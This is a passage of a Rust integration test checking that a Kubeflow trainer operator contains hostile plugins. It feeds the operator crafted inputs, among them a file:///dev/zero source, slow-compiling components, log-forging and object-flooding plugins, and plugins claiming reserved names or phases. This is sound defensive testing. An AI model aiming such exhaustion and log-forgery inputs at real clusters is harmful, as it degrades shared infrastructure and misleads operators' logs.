    during.push(normal_trainjob_completes(&fx, "while a namespace is over its write budget").await);
    delete(&fx.client, "v1", "Namespace", None, &writer).await;
    uninstall(&fx, "filler").await;
    let slow = slow_to_compile_component(3000, 600);
    let started = Instant::now();
    install(&fx, "slowpoke", &slow, json!({})).await;
    during.push(normal_trainjob_completes(&fx, "while a crafted component compiles").await);
    let o = wait_ctp(&fx, "slowpoke", false).await;
    let (_, reason, message) = ctp_condition(&o, "Compiled").unwrap();
    assert_eq!(reason, "CompileLimit", "{message}");
    step(&format!(
        "slow component refused after {:.1}s: {message}",
        started.elapsed().as_secs_f64()
    ));
    uninstall(&fx, "slowpoke").await;
    apply(
        &fx.client,
        &json!({"apiVersion": CTP, "kind": "ClusterTrainerPlugin", "metadata": {"name": "zero"},
        "spec": {"source": {"url": "file:///dev/zero"}, "sha256": "0".repeat(64)}}),
    )
    .await;
    let o = wait_ctp(&fx, "zero", false).await;
    let (_, reason, message) = ctp_condition(&o, "Fetched").unwrap();
    assert!(
        message.contains("not a regular file"),
        "{reason}: {message}"
    );
    delete(&fx.client, CTP, "ClusterTrainerPlugin", None, "zero").await;

    // 8: outputs.
    step("8 outputs");
    let ns = fx.env.create_namespace("attack-outputs").await.unwrap();
    apply(
        &fx.client,
        &attacked(&ns, "shouter", "evil", json!({"attack": "huge-error"})),
    )
    .await;
    let note = wait_warning(&fx.client, &ns, "shouter", &["evil", "PluginError"]).await;
    assert!(
        note.len() <= 1024 && !note.contains('\n'),
        "{} bytes: {note:?}",
        note.len()
    );
    apply(
        &fx.client,
        &attacked(&ns, "forger", "evil", json!({"attack": "log-forge"})),
    )
    .await;
    apply(
        &fx.client,
        &attacked(&ns, "hoarder", "evil", json!({"attack": "many-objects"})),
    )
    .await;
    wait_warning(
        &fx.client,
        &ns,
        "hoarder",
        &["evil", "InvalidOutput", "2000 objects"],
    )
    .await;
    assert!(
        get(&fx.client, "v1", "ConfigMap", Some(&ns), "hoarder-cm-0")
            .await
            .is_none()
    );
    apply(&fx.client, &attacked(&ns, "orphaner", "evil",
        json!({"emit": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "orphaner-orphan"}, "data": {"k": "v"}}]}))).await;
    let orphan = eventually("the emitted ConfigMap", TIMEOUT, || async {
        get(&fx.client, "v1", "ConfigMap", Some(&ns), "orphaner-orphan").await
    })
    .await;
    let owner = trainjob(&fx.client, &ns, "orphaner").await.unwrap();
    assert_eq!(
        orphan["metadata"]["ownerReferences"][0]["uid"],
        owner["metadata"]["uid"]
    );
    assert_eq!(orphan["metadata"]["ownerReferences"][0]["controller"], true);
    delete(
        &fx.client,
        "trainer.kubeflow.org/v1alpha1",
        "TrainJob",
        Some(&ns),
        "orphaner",
    )
    .await;
    eventually(
        "the emitted ConfigMap garbage-collected with its TrainJob",
        TIMEOUT,
        || async {
            get(&fx.client, "v1", "ConfigMap", Some(&ns), "orphaner-orphan")
                .await
                .is_none()
                .then_some(())
        },
    )
    .await;
    let (reason, message) = refused(
        &fx,
        "long",
        json!({"name": "x", "name_repeat": 300_000}),
        json!({}),
    )
    .await;
    assert_eq!(reason, "InvalidDescriptor", "{message}");
    let metrics = fx.op.scrape().await;
    assert!(
        metrics.len() < 512 << 10,
        "/metrics stays small: {} bytes",
        metrics.len()
    );
    assert!(
        !metrics.contains("xxxxxxxxxxxxxxxxxxxx"),
        "no plugin-chosen label values"
    );
    let log = std::fs::read_to_string(&fx.op.log).unwrap();
    for line in log.lines() {
        assert!(
            !line.trim_start().starts_with("{\"level\""),
            "forged log line: {line}"
        );
    }
    assert!(
        log.contains("innocent\\n"),
        "the plugin's line is logged escaped"
    );
    uninstall(&fx, "evil").await;

    // 7: declarations.
    step("7 declarations");
    let (reason, message) = refused(
        &fx,
        "podwatcher",
        json!({"name": "podwatcher", "phases": [], "reads": [["v1", "Pod"]]}),
        json!({}),
    )
    .await;
    assert_eq!(reason, "KindNotWatchable", "{message}");
    assert!(message.contains("Pod"), "{message}");
    let (reason, message) = refused(&fx, "impostor", json!({"name": "jobset"}), json!({})).await;
    assert_eq!(reason, "InvalidDescriptor", "{message}");
    assert!(message.contains("reserved"), "{message}");
    // A plugin claiming the status phase, named to sort before the builtin:
    // the builtin keeps it, whatever the load order.
    install(
        &fx,
        "aaa-status",
        &hostile_declaring(&json!({"name": "aaa-status", "phases": ["status"], "emits": []})),
        json!({}),
    )
    .await;
    let o = wait_ctp(&fx, "aaa-status", false).await;
    let (_, reason, _) = ctp_condition(&o, "Degraded").unwrap();
    assert!(
        reason == "StatusConflict" || reason == "Displaced",
        "{reason}"
    );
    let jobset = get(&fx.client, CTP, "ClusterTrainerPlugin", None, "jobset")
        .await
        .unwrap();
    assert_eq!(ctp_condition(&jobset, "Ready").unwrap().0, "True");
    // Restart with the hostile CRs present: ready again, the builtin still
    // holds the status phase.
    install(
        &fx,
        "podwatcher",
        &hostile_declaring(&json!({"name": "podwatcher", "phases": [], "reads": [["v1", "Pod"]]})),
        json!({}),
    )
    .await;
    wait_ctp(&fx, "podwatcher", false).await;
    fx.op.kill();
    fx.op.restart("operator-containment-2");
    let restarted = Instant::now();
    assert_ready(&fx).await;
    step(&format!(
        "restarted with hostile plugins configured: ready in {:.1}s",
        restarted.elapsed().as_secs_f64()
    ));
    let o = wait_ctp(&fx, "aaa-status", false).await;
    assert!(ctp_condition(&o, "Ready").unwrap().1 != "Serving");
    during.push(normal_trainjob_completes(&fx, "after the restart").await);
    // SIGTERM with compiles running and queued (each up to the compile
    // deadline): the operator is gone within a kubelet's 30 s grace period
    // (its shutdown deadline is 25 s, whatever still runs).
    let slow: Vec<String> = (0..3).map(|i| format!("slow-{i}")).collect();
    for (i, name) in slow.iter().enumerate() {
        install(
            &fx,
            name,
            &slow_to_compile_component(3000 + i, 600),
            json!({}),
        )
        .await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let stopped = fx.op.terminate(Duration::from_secs(30));
    assert!(
        stopped.is_some(),
        "SIGTERM with compiles queued: not gone within 30 s; log:\n{}",
        fx.op.log_tail(30)
    );
    step(&format!(
        "SIGTERM with 3 slow compiles queued: exited in {:.2}s",
        stopped.unwrap_or_default().as_secs_f64()
    ));
    for name in &slow {
        uninstall(&fx, name).await;
    }
    uninstall(&fx, "aaa-status").await;
    uninstall(&fx, "podwatcher").await;

    let worst = during.iter().max().copied().unwrap_or_default();
    step(&format!(
        "normal TrainJob create -> Complete: {:.2}s before the attacks, at most {:.2}s during and after ({:.2}x)",
        baseline.as_secs_f64(),
        worst.as_secs_f64(),
        worst.as_secs_f64() / baseline.as_secs_f64().max(0.001)
    ));
}

/// A CRD of kind `kind` in `evil.example.com` with `scope`.
fn gadget_crd(scope: &str, plural: &str, kind: &str) -> Value {
    json!({"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
        "metadata": {"name": format!("{plural}.evil.example.com")},
        "spec": {"group": "evil.example.com", "scope": scope,
            "names": {"plural": plural, "singular": kind.to_lowercase(), "kind": kind},
            "versions": [{"name": "v1", "served": true, "storage": true,
                "schema": {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}]}})
}
